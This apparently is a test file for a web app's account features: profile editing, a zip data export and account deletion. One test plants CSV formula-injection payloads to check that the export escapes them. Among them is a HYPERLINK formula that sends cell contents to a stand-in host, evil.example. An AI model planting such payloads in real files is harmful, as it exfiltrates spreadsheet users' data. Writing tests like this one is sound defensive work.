// "Your data is yours": editing the profile and photo after onboarding, the export zip
// (export.json plus a CSV per table, files by absolute link) and deleting the account in one
// transaction (everything theirs gone, collaborators lose access, ratings recomputed, every
// session ended, the directory and the edit history kept).
import { eq, inArray, or, sql } from "drizzle-orm";
import { parse as parseCsv } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  contacts,
  projects,
  providerEdits,
  providerRequests,
  providers,
  reviews,
  sessions,
  storedFiles,
  userProviders,
  users,
} from "../../server/db/schema";
import { SoftAuthenticator } from "../support/soft-authenticator";
import { buildTestApp, createUser, TEST_PASSWORD, uniqueEmail, type SignedInUser, type TestApp } from "../support/test-app";
import { tinyPdf, tinyPng } from "./projects-helpers";
import { multipart } from "../support/multipart";
import { unzip } from "../support/unzip";

let t: TestApp;
beforeAll(async () => {
  t = await buildTestApp({ publicUrl: "https://vowch.example" });
});
afterAll(() => t.close());

const ok = async (user: SignedInUser, method: "POST" | "PUT" | "PATCH", url: string, payload: object, status = 200) => {
  const res = await user.request({ method, url, payload });
  expect(res.statusCode, `${method} ${url}: ${res.body}`).toBe(status);
  return res.json<Record<string, unknown> & { id: string }>();
};

/** A finished job recorded as an experience: a project, a link, a review and a recommendation. */
const job = (user: SignedInUser, name: string, rating: number) =>
  ok(
    user,
    "POST",
    "/api/providers/experience",
    {
      name,
      category: "Plumber",
      experienceType: "completed",
      projectTitle: `${name} job`,
      projectType: "one_time",
      rating,
      wouldVouch: true,
      reviewText: "Quick, tidy and fairly priced.",
    },
    201,
  ) as unknown as Promise<{ provider: { id: string }; project: { id: string } }>;

describe("editing the profile", () => {
  it("changes names, phone and address with the onboarding rules", async () => {
    const user = await createUser(t.app);
    const edited = await ok(user, "PUT", "/api/account/profile", {
      firstName: "Robin",
      lastName: "Renamed",
      phone: "415-555-0199",
      homeAddress: "9 New Road",
    });
    expect(edited).toMatchObject({ firstName: "Robin", lastName: "Renamed", phone: "415-555-0199", homeAddress: "9 New Road" });
    const me = await user.request({ method: "GET", url: "/api/auth/user" });
    expect(me.json()).toMatchObject({ firstName: "Robin", homeAddress: "9 New Road" });
    const bad = await user.request({ method: "PUT", url: "/api/account/profile", payload: { firstName: "", lastName: "x" } });
    expect(bad.statusCode).toBe(400);
    expect(bad.json()).toMatchObject({ code: "VALIDATION_FAILED" });
    expect(bad.json<{ errors: { path: string; message: string }[] }>().errors).toContainEqual({
      path: "firstName",
      message: "First name is required",
    });
  });

  it("uploads a photo every member sees, replaces it and removes it", async () => {
    const user = await createUser(t.app);
    const friend = await createUser(t.app);
    const upload = (data: Buffer, filename = "me.png", contentType = "image/png") =>
      user.request({
        method: "PUT",
        url: "/api/account/photo",
        ...multipart({}, [{ field: "photo", filename, contentType, data }]),
      });
    const first = await upload(tinyPng());
    expect(first.statusCode, first.body).toBe(200);
    const url = first.json<{ profileImageUrl: string }>().profileImageUrl;
    expect(url).toMatch(/^\/api\/files\/[0-9a-f-]{36}$/);
    const seen = await friend.request({ method: "GET", url });
    expect(seen.statusCode).toBe(200);
    expect(seen.headers["content-type"]).toBe("image/png");

    const second = await upload(tinyPng());
    const next = second.json<{ profileImageUrl: string }>().profileImageUrl;
    expect(next).not.toBe(url);
    expect((await friend.request({ method: "GET", url })).statusCode).toBe(404);
    expect(await t.db.select().from(storedFiles).where(eq(storedFiles.profileUserId, user.user.id))).toHaveLength(1);

    expect((await upload(tinyPdf(), "me.pdf", "application/pdf")).statusCode).toBe(415);
    const removed = await user.request({ method: "DELETE", url: "/api/account/photo" });
    expect(removed.json()).toMatchObject({ profileImageUrl: null });
    expect((await friend.request({ method: "GET", url: next })).statusCode).toBe(404);
  });
});

describe("export my data", () => {
  it("downloads one zip: export.json with everything the user created and a CSV per table", async () => {
    const user = await createUser(t.app, { profile: { firstName: "Erin", lastName: "Export", phone: "415-555-0142" } });
    const friend = await createUser(t.app);
    const done = await job(user, "Export Plumbing", 4);
    const request = await ok(user, "POST", "/api/provider-requests", { title: "Need a painter", category: "Painter" }, 201);
    const theirs = await ok(
      friend,
      "POST",
      "/api/provider-requests",
      { title: "Need an electrician", category: "Electrician" },
      201,
    );
    await ok(user, "POST", `/api/provider-requests/${theirs.id}/suggestions`, { providerName: "Sparky Sam" }, 201);
    await t.db.insert(contacts).values({ userId: user.user.id, name: 'Aunt May, "the" best', phone: "415-555-0001" });
    await ok(user, "PATCH", `/api/providers/${done.provider.id}`, { address: "1 Pipe St" });
    await ok(user, "PATCH", `/api/providers/${done.provider.id}/history`, { notes: "Ask for Sam", doNotHire: true });
    const photo = await user.request({
      method: "PUT",
      url: "/api/account/photo",
      ...multipart({}, [{ field: "photo", filename: "me.png", contentType: "image/png", data: tinyPng() }]),
    });
    const photoUrl = photo.json<{ profileImageUrl: string }>().profileImageUrl;

    const res = await user.request({ method: "GET", url: "/api/export" });
    expect(res.statusCode).toBe(200);
    expect(res.headers["content-type"]).toBe("application/zip");
    expect(res.headers["content-disposition"]).toMatch(/^attachment; filename="vowch-export-\d{4}-\d{2}-\d{2}\.zip"$/);
    const entries = await unzip(res.rawPayload);
    expect([...entries.keys()].sort()).toEqual(
      [
        "export.json",
        "README.txt",
        "profile.csv",
        "settings.csv",
        "notification_settings.csv",
        "notification_schedule.csv",
        "push_devices.csv",
        "service_visits.csv",
        "collaborations.csv",
        "plus_ones.csv",
        "providers_added.csv",
        "notifications.csv",
        "sign_in_identities.csv",
        "invite_links.csv",
        "projects.csv",
        "links.csv",
        "reviews.csv",
        "recommendations.csv",
        "my_providers.csv",
        "requests.csv",
        "suggestions.csv",
        "contacts.csv",
        "provider_edits.csv",
        "passkeys.csv",
        "provider_notes.csv",
        "files.csv",
        "household.csv",
        "home_tasks.csv",
        "home_task_log.csv",
        "home_items.csv",
        "home_documents.csv",
      ].sort(),
    );
    const data = JSON.parse(entries.get("export.json")!) as Record<string, unknown[]> & { profile: Record<string, unknown> };
    expect(data.profile).toMatchObject({
      id: user.user.id,
      email: user.user.email,
      firstName: "Erin",
      phone: "415-555-0142",
      profileImageUrl: `https://vowch.example${photoUrl}`,
    });
    expect(data.projects).toEqual([expect.objectContaining({ id: done.project.id, title: "Export Plumbing job" })]);
    expect(data.links).toEqual([expect.objectContaining({ providerName: "Export Plumbing", status: "completed" })]);
    expect(data.reviews).toEqual([expect.objectContaining({ providerName: "Export Plumbing", rating: 4 })]);
    expect(data.recommendations).toHaveLength(1);
    expect(data.my_providers).toEqual([expect.objectContaining({ name: "Export Plumbing", isVouched: true })]);
    expect(data.requests).toEqual([expect.objectContaining({ id: request.id, title: "Need a painter" })]);
    expect(data.suggestions).toEqual([expect.objectContaining({ requestId: theirs.id, providerName: "Sparky Sam" })]);
    expect(data.contacts).toEqual([expect.objectContaining({ name: 'Aunt May, "the" best' })]);
    expect(data.provider_notes).toEqual([
      expect.objectContaining({ providerId: done.provider.id, notes: "Ask for Sam", doNotHire: true }),
    ]);
    expect(data.provider_edits).toEqual([expect.objectContaining({ changes: { address: { from: null, to: "1 Pipe St" } } })]);
    expect(data.files).toEqual([
      expect.objectContaining({ kind: "profile_photo", downloadUrl: `https://vowch.example${photoUrl}` }),
    ]);
    // The CSVs: a byte-order mark, a header and one line per row, quoted where needed.
    expect(entries.get("contacts.csv")!.split("\n")[0]).toBe("\uFEFFid,name,email,phone,createdAt");
    expect(entries.get("contacts.csv")).toContain('"Aunt May, ""the"" best"');
    expect(entries.get("requests.csv")!.trim().split("\n")).toHaveLength(2);
    expect(entries.get("passkeys.csv")).toBe("\uFEFFname,deviceType,backedUp,createdAt,lastUsedAt\n");
    // Nothing of another person's.
    expect(entries.get("export.json")).not.toContain(friend.user.email!);
  });

  it("is the signed-in user's own: 401 signed out", async () => {
    const res = await t.app.inject({ method: "GET", url: "/api/export" });
    expect(res.statusCode).toBe(401);
    expect(res.json()).toEqual({ message: "Unauthorized" });
  });

  it("writes a cell a spreadsheet would run as a formula with a leading ', also when another member typed it", async () => {
    const mallory = await createUser(t.app);
    const user = await createUser(t.app);
    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
    // A directory provider another member named: it reaches this user's export through the link.
    const planted = await ok(mallory, "POST", "/api/providers", { name: formula, category: "Plumber" }, 201);
    const project = await ok(user, "POST", "/api/projects", { title: "@SUM(1+1)" }, 201);
    await ok(user, "POST", `/api/projects/${project.id}/providers`, { providerId: planted.id }, 201);
    const names = ["+1 555 0100", "-2+3", "\tcmd", "\r=1+1", "Plain, safe"];
    await t.db.insert(contacts).values(names.map((name) => ({ userId: user.user.id, name })));

    const entries = await unzip((await user.request({ method: "GET", url: "/api/export" })).rawPayload);
    const read = (name: string) => parseCsv<Record<string, string>>(entries.get(name)!, { columns: true, bom: true });
    expect(read("links.csv").map((row) => row.providerName)).toEqual([`'${formula}`]);
    expect(read("links.csv").map((row) => row.projectTitle)).toEqual(["'@SUM(1+1)"]);
    expect(read("projects.csv").map((row) => row.title)).toEqual(["'@SUM(1+1)"]);
    expect(
      read("contacts.csv")
        .map((row) => row.name)
        .sort(),
    ).toEqual(["'+1 555 0100", "'-2+3", "'\tcmd", "'\r=1+1", "Plain, safe"].sort());
    // export.json holds the data as it is: only the CSVs are read by spreadsheets.
    expect(JSON.stringify(JSON.parse(entries.get("export.json")!))).toContain(JSON.stringify(formula));
  });
});

describe("delete my account", () => {
  it("refuses without the typed confirmation or with a wrong password, and keeps the account", async () => {
    const user = await createUser(t.app);
    const noConfirm = await user.request({ method: "DELETE", url: "/api/account", payload: { password: TEST_PASSWORD } });
    expect(noConfirm.statusCode).toBe(400);
    expect(noConfirm.json()).toMatchObject({ code: "VALIDATION_FAILED" });
    const lower = await user.request({
      method: "DELETE",
      url: "/api/account",
      payload: { confirm: "delete", password: TEST_PASSWORD },
    });
    expect(lower.statusCode).toBe(400);
    const noPassword = await user.request({ method: "DELETE", url: "/api/account", payload: { confirm: "DELETE" } });
    expect(noPassword.statusCode).toBe(400);
    const wrong = await user.request({
      method: "DELETE",
      url: "/api/account",
      payload: { confirm: "DELETE", password: "not the one" },
    });
    expect(wrong.statusCode).toBe(403);
    expect(wrong.json()).toMatchObject({ code: "CONFIRMATION_FAILED" });
    expect((await user.request({ method: "GET", url: "/api/auth/user" })).statusCode).toBe(200);
    const signedOut = await t.app.inject({ method: "DELETE", url: "/api/account", payload: { confirm: "DELETE" } });
    expect(signedOut.statusCode).toBe(401);
    // No passkey: nothing to confirm with.
    expect((await user.request({ method: "POST", url: "/api/account/confirm-options" })).statusCode).toBe(404);
  });

  it("removes everything theirs in one go, ends every session, recomputes ratings and keeps what others rely on", async () => {
    const email = uniqueEmail("leaver");
    const leaver = await createUser(t.app, { email, profile: { firstName: "Lee", lastName: "Leaver" } });
    const collaborator = await createUser(t.app, { profile: { firstName: "Cal", lastName: "Collab" } });
    const fan = await createUser(t.app);
    // A second session of the leaver (another device).
    const other = await t.app.inject({ method: "POST", url: "/api/auth/login", payload: { email, password: TEST_PASSWORD } });
    const otherCookie = other.cookies.find((c) => c.name === "vowch.sid")!;

    // The leaver's finished job (4 stars) on a provider the fan also reviewed (2 stars).
    const done = await job(leaver, "Leaver Plumbing", 4);
    const providerId = done.provider.id;
    await ok(fan, "POST", `/api/providers/${providerId}/vouch`, { rating: 2 });
    const [before] = await t.db.select().from(providers).where(eq(providers.id, providerId));
    expect(before).toMatchObject({ rating: "3.0", reviewCount: 2 });
    // A project shared with a collaborator, with a completion photo on its link.
    await ok(leaver, "POST", `/api/projects/${done.project.id}/collaborators`, { userId: collaborator.user.id }, 201);
    const links = (await leaver.request({ method: "GET", url: `/api/projects/${done.project.id}/providers` })).json<
      { id: string }[]
    >();
    const quote = await leaver.request({
      method: "POST",
      url: `/api/project-providers/${links[0]!.id}/photos`,
      ...multipart({}, [{ field: "photos", filename: "done.png", contentType: "image/png", data: tinyPng() }]),
    });
    expect(quote.statusCode, quote.body).toBe(200);
    const [quoteFile] = await t.db.select().from(storedFiles).where(eq(storedFiles.projectProviderId, links[0]!.id));
    expect(await t.app.files.get(quoteFile!.storageKey)).toBeTruthy();
    expect((await collaborator.request({ method: "GET", url: `/api/projects/${done.project.id}` })).statusCode).toBe(200);
    // The fan saved a provider the leaver added; the leaver edited it (history) and asked for help.
    const added = await ok(leaver, "POST", "/api/providers", { name: "Leaver's Painter", category: "Painter" }, 201);
    await ok(fan, "POST", `/api/providers/${added.id}/vouch`, { rating: 5 });
    await ok(leaver, "PATCH", `/api/providers/${added.id}`, { phone: "415-555-0777" });
    await ok(leaver, "POST", "/api/provider-requests", { title: "Need a roofer", category: "Roofing" }, 201);
    await t.db.insert(contacts).values({ userId: leaver.user.id, name: "Old friend" });
    const key = new SoftAuthenticator("https://vowch.example", "vowch.example");
    const options = await leaver.request({
      method: "POST",
      url: "/api/auth/passkeys/registration-options",
      payload: { password: TEST_PASSWORD },
    });
    await ok(leaver, "POST", "/api/auth/passkeys", { response: key.create(options.json()) }, 201);

    const res = await leaver.request({
      method: "DELETE",
      url: "/api/account",
      payload: { confirm: "DELETE", password: TEST_PASSWORD },
    });
    expect(res.statusCode, res.body).toBe(204);
    expect(res.cookies.find((c) => c.name === "vowch.sid")?.value).toBe("");

    // Every session ended: this one and the other device's.
    expect((await leaver.request({ method: "GET", url: "/api/auth/user" })).statusCode).toBe(401);
    const otherDevice = await t.app.inject({
      method: "GET",
      url: "/api/auth/user",
      headers: { cookie: `vowch.sid=${otherCookie.value}` },
    });
    expect(otherDevice.statusCode).toBe(401);
    expect(
      await t.db
        .select()
        .from(sessions)
        .where(sql`${sessions.sess}->>'userId' = ${leaver.user.id}`),
    ).toHaveLength(0);
    // Their rows are gone.
    const id = leaver.user.id;
    expect(await t.db.select().from(users).where(eq(users.id, id))).toHaveLength(0);
    expect(await t.db.select().from(projects).where(eq(projects.userId, id))).toHaveLength(0);
    expect(await t.db.select().from(reviews).where(eq(reviews.userId, id))).toHaveLength(0);
    expect(await t.db.select().from(userProviders).where(eq(userProviders.userId, id))).toHaveLength(0);
    expect(await t.db.select().from(providerRequests).where(eq(providerRequests.userId, id))).toHaveLength(0);
    expect(await t.db.select().from(contacts).where(eq(contacts.userId, id))).toHaveLength(0);
    expect(await t.db.select().from(storedFiles).where(eq(storedFiles.id, quoteFile!.id))).toHaveLength(0);
    await expect(t.app.files.get(quoteFile!.storageKey)).rejects.toThrow();
    // The collaborator lost the project.
    expect((await collaborator.request({ method: "GET", url: `/api/projects/${done.project.id}` })).statusCode).toBe(404);
    // The rating is the fan's alone now.
    const [after] = await t.db.select().from(providers).where(eq(providers.id, providerId));
    expect(after).toMatchObject({ rating: "2.0", reviewCount: 1 });
    // The provider the leaver added stays for the fan; its history keeps the edit without a name.
    const kept = await fan.request({ method: "GET", url: `/api/providers/${added.id}` });
    expect(kept.statusCode).toBe(200);
    expect(kept.json()).toMatchObject({ name: "Leaver's Painter", phone: "415-555-0777" });
    const edits = await t.db.select().from(providerEdits).where(eq(providerEdits.providerId, added.id));
    expect(edits).toEqual([expect.objectContaining({ editorUserId: null })]);
    const history = await fan.request({ method: "GET", url: `/api/providers/${added.id}/edits` });
    expect(history.json<{ editor: unknown }[]>()[0]!.editor).toBeNull();
    // The passkey signs in no more, and the e-mail is free again.
    const login = (await t.app.inject({ method: "POST", url: "/api/auth/passkeys/authentication-options" })).json();
    const passkey = await t.app.inject({
      method: "POST",
      url: "/api/auth/passkeys/sign-in",
      payload: { response: key.get(login) },
    });
    expect(passkey.statusCode).toBe(401);
    const again = await t.app.inject({ method: "POST", url: "/api/auth/register", payload: { email, password: TEST_PASSWORD } });
    expect(again.statusCode).toBe(201);
    // Nobody else's data went.
    expect(
      await t.db
        .select()
        .from(users)
        .where(or(inArray(users.id, [collaborator.user.id, fan.user.id]))),
    ).toHaveLength(2);
  });

  it("confirms with a fresh passkey assertion of the account's own passkey", async () => {
    const user = await createUser(t.app);
    const stranger = await createUser(t.app);
    const key = new SoftAuthenticator("https://vowch.example", "vowch.example");
    const reg = await user.request({
      method: "POST",
      url: "/api/auth/passkeys/registration-options",
      payload: { password: TEST_PASSWORD },
    });
    await ok(user, "POST", "/api/auth/passkeys", { response: key.create(reg.json()) }, 201);
    const strangerKey = new SoftAuthenticator("https://vowch.example", "vowch.example");
    const reg2 = await stranger.request({
      method: "POST",
      url: "/api/auth/passkeys/registration-options",
      payload: { password: TEST_PASSWORD },
    });
    await ok(stranger, "POST", "/api/auth/passkeys", { response: strangerKey.create(reg2.json()) }, 201);

    // Another account's passkey does not confirm this one, nor does a sign-in challenge.
    const confirm = await user.request({ method: "POST", url: "/api/account/confirm-options" });
    expect(confirm.json<{ allowCredentials: unknown[] }>().allowCredentials).toHaveLength(1);
    const foreign = await user.request({
      method: "DELETE",
      url: "/api/account",
      payload: { confirm: "DELETE", passkey: strangerKey.get(confirm.json()) },
    });
    expect(foreign.statusCode).toBe(403);
    const signInChallenge = (await t.app.inject({ method: "POST", url: "/api/auth/passkeys/authentication-options" })).json();
    const wrongPurpose = await user.request({
      method: "DELETE",
      url: "/api/account",
      payload: { confirm: "DELETE", passkey: key.get(signInChallenge) },
    });
    expect(wrongPurpose.statusCode).toBe(400);

    const fresh = (await user.request({ method: "POST", url: "/api/account/confirm-options" })).json();
    const res = await user.request({
      method: "DELETE",
      url: "/api/account",
      payload: { confirm: "DELETE", passkey: key.get(fresh) },
    });
    expect(res.statusCode, res.body).toBe(204);
    expect((await user.request({ method: "GET", url: "/api/auth/user" })).statusCode).toBe(401);
  });
});
